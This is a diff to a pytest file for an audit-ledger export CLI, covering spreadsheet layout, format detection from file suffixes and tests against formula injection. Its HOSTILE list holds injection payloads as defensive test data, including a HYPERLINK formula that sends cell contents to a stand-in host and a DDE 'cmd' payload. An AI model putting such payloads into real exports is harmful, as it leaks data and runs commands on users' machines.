@@ -11,8 +11,9 @@ import pdfplumber
 import pytest
 from click.testing import CliRunner
 
+from secreview.cli import main
 from tests.helpers.audit_ledger import FULL_ID, MASKED_ID, Items, build_items, day, ok
-from tests.helpers.ledger import cli, cli_json, copy_ledger, head
+from tests.helpers.ledger import cli, cli_json, copy_ledger, head, passphrase
 
 AUDITOR = "孙审计"
 
@@ -144,16 +145,27 @@ def test_xlsx(ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path) -> 
     ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "xlsx", "-o", str(out)))
     wb = openpyxl.load_workbook(out)
     ws = wb["台账"]
-    assert [c.value for c in ws[3]][:3] == ["序号", "信息标题", "文号"]
+    assert [c.value for c in ws[3]][:4] == ["序号", "稿件编号", "信息标题", "文号"]
     assert ws.freeze_panes == "A4"
-    titles = [ws.cell(row=r, column=2).value for r in range(4, 10)]
+    titles = [ws.cell(row=r, column=3).value for r in range(4, 10)]
     assert titles == [
         it.titles[k].replace(FULL_ID, MASKED_ID)
         for k in ("passed", "rejected", "revised", "dismissed", "id", "finance")
     ]
-    assert ws.cell(row=10, column=2).value is None
+    assert ws.cell(row=10, column=3).value is None
+    # typed cells (issue 18): numbers are numbers, times are dates (北京时间)
+    header = [c.value for c in ws[3]]
+    first = {h: ws.cell(row=4, column=i + 1) for i, h in enumerate(header)}
+    assert first["序号"].data_type == "n" and first["序号"].value == 1
+    assert [ws.cell(row=r, column=2).value for r in range(4, 10)] == [
+        it.ids[k] for k in ("passed", "rejected", "revised", "dismissed", "id", "finance")
+    ]
+    submitted = first["提交时间（北京时间）"]
+    assert submitted.is_date and submitted.value.date().isoformat() == day(0)
+    assert first["发现问题数"].data_type == "n"
+    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A3:")
     stats = {row[0].value: row[1].value for row in wb["统计"].iter_rows() if row[0].value}
-    assert stats["提交事项"] == "6" and stats["已公开"] == "3"
+    assert stats["提交事项"] == 6 and stats["已公开"] == 3
     values = [
         str(c.value) for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value
     ]
@@ -215,6 +227,72 @@ def test_file_format_without_output_writes_default_name(
     assert expected.exists() and expected.name in r.stdout
 
 
+# -- issue 18: the format from -o, rule names ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "check"),
+    [
+        ("台账.pdf", lambda p: p.read_bytes().startswith(b"%PDF")),
+        ("台账.xlsx", lambda p: p.read_bytes().startswith(b"PK")),
+        ("台账.CSV", lambda p: p.read_bytes().startswith(b"\xef\xbb\xbf")),
+        ("台账.html", lambda p: "<!DOCTYPE html>" in p.read_text(encoding="utf-8")),
+        ("台账.json", lambda p: json.loads(p.read_text(encoding="utf-8"))["rows"]),
+        ("台账.txt", lambda p: "保密审查台账" in p.read_text(encoding="utf-8")),
+    ],
+)
+def test_output_suffix_sets_the_format(ledger, runner, tmp_path, name, check) -> None:
+    db, _ = ledger
+    out = tmp_path / name
+    ok(cli(runner, db, AUDITOR, "audit", *period(), "-o", str(out)))
+    assert check(out)
+
+
+@pytest.mark.parametrize(
+    ("name", "fmt", "fragment"),
+    [
+        ("台账.pdf", "text", "与 --format text 不一致"),
+        ("台账.xlsx", "csv", "与 --format csv 不一致"),
+        ("台账.json", "pdf", "扩展名 .json"),
+        ("台账.doc", None, "无法从输出文件名"),
+        ("台账", None, "无法从输出文件名"),
+    ],
+)
+def test_output_suffix_that_contradicts_is_a_usage_error(
+    ledger, runner, tmp_path, name, fmt, fragment
+) -> None:
+    db, _ = ledger
+    out = tmp_path / name
+    args = ["audit", *period(), "-o", str(out)] + (["--format", fmt] if fmt else [])
+    r = cli(runner, db, AUDITOR, *args)
+    assert r.exit_code == 2
+    assert fragment in r.stderr and len(r.stderr.strip().splitlines()) == 1
+    assert not out.exists()
+
+
+def test_unknown_suffix_with_explicit_format_is_written(ledger, runner, tmp_path) -> None:
+    db, _ = ledger
+    out = tmp_path / "台账.backup"
+    ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "pdf", "-o", str(out)))
+    assert out.read_bytes().startswith(b"%PDF")
+
+
+def test_audit_names_rules_in_chinese_with_the_id_as_a_note(ledger, runner) -> None:
+    db, it = ledger
+    data = cli_json(runner, db, AUDITOR, "audit", *period())
+    row = next(r for r in data["rows"] if r["id"] == it.ids["dismissed"])
+    assert (
+        "密级标志（marking.secret_level）：系引用已解密文件的原标志"
+        in (row["cells"]["保密审查员及意见"])
+    )
+    r = runner.invoke(
+        main,
+        ["--db", str(db), "--as", AUDITOR, "audit", *period()],
+        env={"COLUMNS": "200", "SECREVIEW_PASSPHRASE": passphrase(AUDITOR)},
+    )
+    assert "规则：密级标志（marking.secret_level）" in r.stdout.replace("\n", "")
+
+
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此")',
     "+1+cmd|' /C calc'!A0",
@@ -230,7 +308,7 @@ def test_spreadsheet_cells_never_become_formulas(
     office: Path, runner: CliRunner, tmp_path: Path
 ) -> None:
     """Titles (and a reviewer's reason) a spreadsheet would run are written as inert text."""
-    from secreview.report.render_tabular import spreadsheet_safe
+    from secreview.report.cells import neutralise
     from tests.helpers.ledger import write_doc
 
     for i, title in enumerate(HOSTILE):
@@ -247,8 +325,11 @@ def test_spreadsheet_cells_never_become_formulas(
     wb = openpyxl.load_workbook(xlsx)
     cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
-    titles = [wb["台账"].cell(row=r, column=2).value for r in range(4, 4 + len(HOSTILE))]
-    assert titles == ["'" + t.strip() for t in HOSTILE]  # submit trims the title
+    header = [c.value for c in wb["台账"][3]]
+    col = header.index("信息标题") + 1
+    title_cells = [wb["台账"].cell(row=r, column=col) for r in range(4, 4 + len(HOSTILE))]
+    assert [c.value for c in title_cells] == [t.strip() for t in HOSTILE]  # submit trims it
+    assert all(c.data_type == "s" and c.quotePrefix for c in title_cells)
     with csv_out.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
     assert [r[1] for r in rows[1 : 1 + len(HOSTILE)]] == ["'" + t.strip() for t in HOSTILE]
@@ -261,9 +342,9 @@ def test_spreadsheet_cells_never_become_formulas(
     with zipfile.ZipFile(xlsx) as z:
         sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
     assert not any("<f>" in s or "<f " in s for s in sheets)
-    assert spreadsheet_safe("普通标题") == "普通标题" and spreadsheet_safe("1-2") == "1-2"
-    for lead in ("  =1", "\t=1", "\r=1", "\u3000@x", "\t", "-"):
-        assert spreadsheet_safe(lead) == "'" + lead
+    assert neutralise("普通标题") == "普通标题" and neutralise("1-2") == "1-2"
+    for lead in ("  =1", "\t=1", "\r=1", "\u3000@x", "\t", "-", "＋1"):
+        assert neutralise(lead) == "'" + lead
 
 
 def test_audit_prints_the_last_checkpoint(office: Path, runner: CliRunner) -> None:
